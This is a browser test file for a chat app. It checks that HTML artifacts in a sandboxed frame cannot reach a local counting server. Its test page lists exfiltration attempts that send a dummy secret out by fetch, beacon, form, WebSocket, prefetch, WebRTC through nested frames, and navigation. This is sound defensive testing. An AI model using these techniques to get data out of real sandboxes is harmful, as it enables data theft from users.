// An artifact cannot send anything out (docs/protocol-notes.md, "Artifacts: nothing leaves the frame"):
// a server on a local port counts every HTTP request, TCP connection and UDP datagram it gets, and an
// HTML artifact tries to reach it by every means Chromium gives a page: fetch, an image, a form, a
// beacon, a socket, prefetch, preload, preconnect and DNS prefetch, WebRTC (its own, and a nested
// frame's, by markup, by DOM calls and by document.write), then navigation. In the thread and on the
// share page, read by someone signed out, the server hears nothing; the navigation is stopped and
// the panel says so, with a way to run the artifact again.
import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import { after, before, describe } from "node:test";
import { api, APP_URL, createThread, marker, openThread, screenshot, script, send, until, useBrowser, waitForReply } from "./helpers.mjs";

const { it, newPage } = useBrowser();

/** One port, three listeners: what reaches it over HTTP, TCP and UDP. */
const heard = { requests: [], connections: 0, datagrams: 0 };
const http = createServer((req, res) => {
  heard.requests.push(`${req.method} ${req.url}`);
  res.end("heard");
});
http.on("connection", () => heard.connections++);
const udp = createSocket("udp4");
udp.on("message", () => heard.datagrams++);
let port = 0;

before(async () => {
  await new Promise((resolve) => http.listen(0, "127.0.0.1", resolve));
  port = http.address().port;
  await new Promise((resolve) => udp.bind(port, "127.0.0.1", resolve));
});
after(() => {
  http.close();
  udp.close();
});

/** Every way out but navigation; each attempt's outcome is written into the page, for the screenshot. */
function leakyPage(at) {
  const stun = `stun:127.0.0.1:${port}`;
  return `<!doctype html><html><head><title>Leaky</title>
<link rel="prefetch" href="${at}/prefetch"><link rel="preload" as="fetch" href="${at}/preload">
<link rel="preconnect" href="${at}"><link rel="dns-prefetch" href="${at}">
<style>body{font-family:sans-serif} li{margin:2px 0}</style></head>
<body><h1>Trying every way out</h1><ul id="log"></ul>
<img src="${at}/image" alt="">
<form id="form" method="post" action="${at}/form"><input name="secret" value="s3cret"></form>
<iframe name="marked" srcdoc="&lt;script&gt;new RTCPeerConnection({iceServers:[{urls:'${stun}'}]})&lt;/script&gt;"></iframe>
<script>
  var log = function (what, outcome) { var li = document.createElement("li"); li.textContent = what + ": " + outcome; document.getElementById("log").appendChild(li); };
  var attempt = function (what, fn) { try { var r = fn(); log(what, r === undefined ? "tried" : String(r)); } catch (e) { log(what, "refused (" + e.name + ")"); } };
  var gather = function (Peer) { var pc = new Peer({ iceServers: [{ urls: "${stun}" }] }); pc.createDataChannel("x"); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }); return "gathering"; };
  fetch("${at}/fetch").then(function () { log("fetch", "answered"); }, function () { log("fetch", "refused"); });
  attempt("beacon", function () { return navigator.sendBeacon("${at}/beacon", "s3cret"); });
  attempt("socket", function () { new WebSocket("ws://127.0.0.1:${port}/socket"); });
  attempt("form", function () { document.getElementById("form").submit(); });
  attempt("webrtc", function () { return gather(RTCPeerConnection); });
  attempt("webrtc, prefixed", function () { return gather(webkitRTCPeerConnection); });
  attempt("webrtc, frame in the markup", function () { return gather(window.marked.RTCPeerConnection); });
  attempt("webrtc, frame appended", function () { var f = document.createElement("iframe"); document.body.appendChild(f); return gather(f.contentWindow.RTCPeerConnection); });
  attempt("webrtc, frame by innerHTML", function () { var d = document.createElement("div"); d.innerHTML = "<iframe></iframe>"; document.body.appendChild(d); return gather(window[0].RTCPeerConnection); });
  attempt("webrtc, frame in a shadow root", function () { var h = document.createElement("div"); h.attachShadow({ mode: "closed" }).appendChild(document.createElement("iframe")); document.body.appendChild(h); return gather(window[0].RTCPeerConnection); });
  attempt("webrtc, document.write", function () { document.write("<iframe></iframe>"); return gather(window[0].RTCPeerConnection); });
  attempt("frames", function () { return window.length + " windows"; });
</script></body></html>`;
}

/** Navigation, by script, a little after the page has shown it is running. */
const leavingPage = (at) => `<!doctype html><html><body><h1 id="h">About to leave</h1>
<script>setTimeout(function () { location.href = "${at}/navigate?secret=s3cret"; }, 1500);</script></body></html>`;

const card = (page, title) => page.getByTestId("artifact-card").filter({ hasText: title });
const frame = (page) => page.frameLocator('[data-testid="artifact-panel"] [data-testid="artifact-frame"]');
const logged = (page) => frame(page).locator("#log li");

/** Opens `title`'s artifact and waits for its attempts to be written into its page. */
async function runLeaky(page, title) {
  await card(page, title).click();
  await until(async () => (await logged(page).count()) >= 11, { message: "the artifact's attempts did not all run" });
  return (await logged(page).allInnerTexts()).join("\n");
}

const settle = () => new Promise((r) => setTimeout(r, 2_500));

/** The policy's refusals are this test's point: each must be of the counting server, and none of the app's. */
function acceptRefusals(page) {
  const other = page.cspViolations.filter((v) => !v.includes(`127.0.0.1:${port}`));
  assert.deepEqual(other, [], "the policy refused something else than the artifact's attempts");
  page.cspViolations.length = 0;
}

function assertNothingHeard(where) {
  assert.deepEqual(heard.requests, [], `${where}: HTTP requests reached the server`);
  assert.equal(heard.datagrams, 0, `${where}: UDP datagrams (STUN) reached the server`);
}

describe("an artifact's frame sends nothing out", () => {
  it("in the thread and on the share page: no request, no datagram, and a navigation stopped with a notice", async () => {
    const at = `http://127.0.0.1:${port}`;
    const { page } = await newPage();
    const thread = await createThread("Artifacts: nothing leaves");
    await openThread(page, thread.id);
    const m = marker("egress");
    const tools = [
      { name: "artifacts__create", input: { title: "Leaky page", type: "html", content: leakyPage(at) } },
      { name: "artifacts__create", input: { title: "Leaving page", type: "html", content: leavingPage(at) } },
    ];
    await script(m, [{ kind: "tool_use", tools }, { kind: "text", text: "Two pages." }]);
    await send(page, `Make them ${m}`);
    await waitForReply(page, "Two pages.");

    const outcomes = await runLeaky(page, "Leaky page");
    await settle();
    assert.match(outcomes, /webrtc: refused \(SecurityError\)/);
    assert.match(outcomes, /webrtc, prefixed: refused \(SecurityError\)/);
    for (const way of ["frame in the markup", "frame appended", "frame by innerHTML", "frame in a shadow root", "document.write"]) {
      assert.match(outcomes, new RegExp(`webrtc, ${way}: refused`), `webrtc through a ${way} was not refused`);
    }
    assert.match(outcomes, /frames: 0 windows/);
    assertNothingHeard("the thread, every way but navigation");
    assert.equal(heard.connections, 0, "a TCP connection reached the server");
    await screenshot(page, "45-artifact-nothing-leaves");

    await card(page, "Leaving page").click();
    const notice = page.getByTestId("artifact-frame-left");
    await notice.waitFor({ timeout: 10_000 });
    await settle();
    assertNothingHeard("the thread, navigation");
    assert.equal(await page.getByTestId("artifact-frame").isVisible(), false, "the blocked frame is still shown");
    await screenshot(page, "46-artifact-navigation-stopped");
    acceptRefusals(page);
    // Run it again: the page is back, and stopped again.
    await notice.getByRole("button", { name: "Run it again" }).click();
    await frame(page).locator("#h").waitFor();
    await notice.waitFor({ timeout: 10_000 });
    acceptRefusals(page);

    // The share page, read signed out, under its own headers.
    const { share } = await api(`/api/threads/${thread.id}/shares`, { method: "POST" });
    const { page: reader } = await newPage();
    await reader.goto(`${APP_URL}/s/${share.id}`);
    await reader.getByTestId("shared-view").waitFor();
    const shared = await runLeaky(reader, "Leaky page");
    await settle();
    assert.match(shared, /webrtc: refused \(SecurityError\)/);
    assert.match(shared, /frames: 0 windows/);
    await card(reader, "Leaving page").click();
    await reader.getByTestId("artifact-frame-left").waitFor({ timeout: 10_000 });
    await settle();
    assertNothingHeard("the share page");
    await screenshot(reader, "47-shared-artifact-nothing-leaves");
    acceptRefusals(reader);
  });
});
